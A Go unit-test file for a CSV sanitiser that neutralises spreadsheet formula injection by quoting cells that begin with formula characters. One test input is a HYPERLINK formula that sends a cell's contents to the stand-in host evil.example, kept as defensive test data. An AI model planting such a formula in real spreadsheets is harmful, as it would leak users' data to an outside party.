package csvsafe

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-5", "-5"},
		{"+1.5", "+1.5"},
		{"-0.25", "-0.25"},
		{"-1.2.3", "'-1.2.3"},
		{"", ""},
		{"Acme, Inc.", "Acme, Inc."},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
		{"12", "12"},
	}
	for _, tc := range tests {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriterNeutralisesAndKeepsTheRecord(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"domain", "=1+1"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAll([][]string{{"a.com", "@x"}, {"b.com", "-3"}}); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Errorf("Write changed the caller's record: %q", rec)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"domain", "'=1+1"}, {"a.com", "'@x"}, {"b.com", "-3"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("read back %q, want %q", got, want)
	}
}
